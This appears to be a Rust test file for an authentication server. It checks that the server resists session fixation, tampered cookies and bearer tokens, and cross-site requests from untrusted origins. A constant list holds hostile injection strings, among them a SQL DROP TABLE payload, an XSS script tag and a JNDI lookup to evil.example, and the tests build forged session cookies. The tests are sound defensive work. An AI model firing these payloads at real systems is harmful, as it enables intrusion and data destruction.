//! Attacks on sessions and stored data: session fixation, tampered cookies and bearer
//! tokens, cross-site requests with cookies or bearer tokens, and injection strings in
//! every text field (stored and returned verbatim on SQLite and PostgreSQL).

use crate::common;

use axum::http::StatusCode;
use common::{Backend, Client, ORIGIN, TestApp};
use serde_json::{Value, json};

fn session_cookie_value(client: &Client) -> String {
    client.session_cookie().expect("session cookie").clone()
}

#[tokio::test]
async fn every_sign_in_gets_a_new_token_whatever_cookie_came_with_it() {
    let app = TestApp::new(Backend::Sqlite).await;
    let victim = app.sign_up("Vic", "vic@example.com", "password123").await;
    let attacker = app.sign_up("Mallory", "mallory@example.com", "password123").await;
    let body = json!({"email": "vic@example.com", "password": "password123"});
    // The attacker planted their own valid session cookie, or one of their own making.
    for planted in [
        format!("better-auth.session_token={}", session_cookie_value(&attacker)),
        "better-auth.session_token=chosen-by-the-attacker.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%3D".to_owned(),
    ] {
        let response = app
            .post("/sign-in/email")
            .header("cookie", &planted)
            .origin()
            .json(&body)
            .send()
            .await;
        assert_eq!(response.status, StatusCode::OK, "{}", response.text());
        let mut signed_in = Client::default();
        signed_in.store(&response);
        let token = signed_in.session_token();
        assert!(!planted.contains(&token), "the server chose a fresh token");
        assert_ne!(token, victim.session_token());
        let session = app.get("/get-session").cookies(&signed_in).send().await.json();
        assert_eq!(session["user"]["email"], "vic@example.com");
    }
    let attacker_session = app.get("/get-session").cookies(&attacker).send().await.json();
    assert_eq!(
        attacker_session["user"]["email"], "mallory@example.com",
        "the planted session still belongs to its owner only"
    );
}

#[tokio::test]
async fn tampered_cookies_and_tokens_are_nobody() {
    let app = TestApp::new(Backend::Sqlite).await;
    let client = app.sign_up("Alice", "alice@example.com", "password123").await;
    let token = client.token.clone().expect("bearer token");
    let cookie = session_cookie_value(&client);
    let decoded = percent_encoding::percent_decode_str(&cookie)
        .decode_utf8_lossy()
        .into_owned();
    let (value, signature) = decoded.rsplit_once('.').expect("signed");
    let flip = |text: &str, at: usize| {
        let mut chars: Vec<char> = text.chars().collect();
        chars[at] = if chars[at] == 'A' { 'B' } else { 'A' };
        chars.into_iter().collect::<String>()
    };
    let other = app.sign_up("Bob", "bob@example.com", "password123").await;
    let other_decoded = percent_encoding::percent_decode_str(&session_cookie_value(&other))
        .decode_utf8_lossy()
        .into_owned();
    let (_, other_signature) = other_decoded.rsplit_once('.').expect("signed");
    let forged_cookies = [
        format!("{}.{signature}", flip(value, 0)),
        format!("{}.{signature}", flip(value, value.len() - 1)),
        format!("{value}.{}", flip(signature, 3)),
        format!("{value}.{other_signature}"),
        format!("{value}x.{signature}"),
        value.to_owned(),
    ];
    for forged in &forged_cookies {
        let encoded = forged.replace('=', "%3D").replace('+', "%2B").replace('/', "%2F");
        let response = app
            .get("/get-session")
            .header("cookie", &format!("better-auth.session_token={encoded}"))
            .send()
            .await;
        assert_eq!(response.status, StatusCode::OK);
        assert_eq!(response.text(), "null", "forged cookie {forged}");
    }
    for forged in [
        flip(&token, 0),
        format!("{token}x"),
        format!("{value}.{}", flip(signature, 5)),
        String::new(),
        "Bearer".to_owned(),
    ] {
        let response = app.get("/get-session").bearer(&forged).send().await;
        assert_eq!(response.status, StatusCode::OK);
        assert_eq!(response.text(), "null", "forged bearer {forged:?}");
    }
    let genuine = app.get("/get-session").bearer(&token).send().await.json();
    assert_eq!(genuine["user"]["email"], "alice@example.com");
}

#[tokio::test]
async fn cross_site_requests_need_a_trusted_origin_only_when_cookies_carry_the_session() {
    let app = TestApp::with(Backend::Sqlite, |config| {
        config.trusted_origins = vec!["https://app.example.com".into(), "https://*.preview.example.com".into()];
    })
    .await;
    let client = app.sign_up("Alice", "alice@example.com", "password123").await;
    let cookie = client.cookie_header();
    let token = client.token.clone().expect("bearer token");
    // (credential, Origin header, expected status)
    let cases: [(&str, Option<&str>, StatusCode); 10] = [
        ("cookie", None, StatusCode::FORBIDDEN),
        ("cookie", Some("null"), StatusCode::FORBIDDEN),
        ("cookie", Some("https://evil.example"), StatusCode::FORBIDDEN),
        ("cookie", Some("https://app.example.com"), StatusCode::OK),
        ("cookie", Some("https://pr-1.preview.example.com"), StatusCode::OK),
        (
            "cookie",
            Some("https://preview.example.com.evil.example"),
            StatusCode::FORBIDDEN,
        ),
        // A bearer token is no ambient credential: a browser never attaches it by itself.
        ("bearer", None, StatusCode::OK),
        ("bearer", Some("null"), StatusCode::OK),
        ("bearer", Some("https://evil.example"), StatusCode::OK),
        ("bearer", Some(ORIGIN), StatusCode::OK),
    ];
    for (credential, origin, expected) in cases {
        let mut request = app.post("/update-user").json(&json!({"name": "Alice"}));
        request = match credential {
            "cookie" => request.header("cookie", &cookie),
            _ => request.bearer(&token),
        };
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        let response = request.send().await;
        assert_eq!(
            response.status,
            expected,
            "{credential} from {origin:?}: {}",
            response.text()
        );
        if expected == StatusCode::FORBIDDEN {
            assert!(response.code().is_some(), "a coded error");
        }
    }
}

/// Strings that break naive SQL, HTML, JSON, URL and log handling.
const HOSTILE: &[&str] = &[
    "Robert'); DROP TABLE \"user\";--",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%27%22",
    "line\nbreak\r\ttab",
    "back\\slash \\u0000 \\\"",
    "emoji 😀 ∑ ünïcödé 𝓽𝓮𝔁𝓽",
    "\u{202e}right-to-left",
    "$1 $$ ?1 :name @p1",
];

async fn injection_round_trip(backend: Backend) {
    let app = TestApp::with(backend, |config| {
        config.organization = Some(Default::default());
    })
    .await;
    let client = app.sign_up("Start", "inject@example.com", "password123").await;
    for (index, hostile) in HOSTILE.iter().enumerate() {
        let updated = app
            .post("/update-user")
            .cookies(&client)
            .json(&json!({"name": hostile, "image": format!("https://img.example/{index}?q={hostile}")}))
            .send()
            .await;
        assert_eq!(updated.status, StatusCode::OK, "{hostile:?}: {}", updated.text());
        let session = app.get("/get-session").cookies(&client).send().await.json();
        assert_eq!(session["user"]["name"], *hostile, "returned verbatim");
        let slug = format!("org-{index}");
        let created = app
            .post("/organization/create")
            .cookies(&client)
            .json(&json!({"name": hostile, "slug": slug, "metadata": {"note": hostile}}))
            .send()
            .await;
        assert_eq!(created.status, StatusCode::OK, "{hostile:?}: {}", created.text());
        let organization: Value = created.json();
        assert_eq!(organization["name"], *hostile);
        assert_eq!(organization["metadata"]["note"], *hostile);
        let full = app
            .get(&format!("/organization/get-full-organization?organizationSlug={slug}"))
            .cookies(&client)
            .send()
            .await
            .json();
        assert_eq!(full["name"], *hostile, "stored verbatim");
        let signed_in = app
            .post("/sign-in/email")
            .json(&json!({"email": hostile, "password": hostile}))
            .send()
            .await;
        assert!(signed_in.status.is_client_error(), "{hostile:?}: {}", signed_in.status);
    }
    assert_eq!(app.count("user").await, 1, "nothing was dropped or added");
    // A NUL character cannot be stored in PostgreSQL text: refused as bad input, not a 500.
    let nul = app
        .post("/update-user")
        .cookies(&client)
        .json(&json!({"name": "nul\u{0}byte"}))
        .send()
        .await;
    assert!(
        nul.status == StatusCode::OK || nul.status.is_client_error(),
        "{}",
        nul.status
    );
    if nul.status == StatusCode::OK {
        let session = app.get("/get-session").cookies(&client).send().await.json();
        assert_eq!(session["user"]["name"], "nul\u{0}byte");
    } else {
        assert!(nul.code().is_some(), "{}", nul.text());
    }
    let lookup = app
        .get("/organization/get-full-organization?organizationSlug=a%00b")
        .cookies(&client)
        .send()
        .await;
    assert!(lookup.status.is_client_error(), "a NUL in a lookup: {}", lookup.status);
    let sign_in = app
        .post("/sign-in/email")
        .json(&json!({"email": "inject\u{0}@example.com", "password": "password123"}))
        .send()
        .await;
    assert!(sign_in.status.is_client_error(), "{}", sign_in.status);
}

#[tokio::test]
async fn injection_strings_are_stored_and_returned_verbatim_on_sqlite() {
    injection_round_trip(Backend::Sqlite).await;
}

#[tokio::test]
async fn injection_strings_are_stored_and_returned_verbatim_on_postgres() {
    injection_round_trip(Backend::Postgres).await;
}
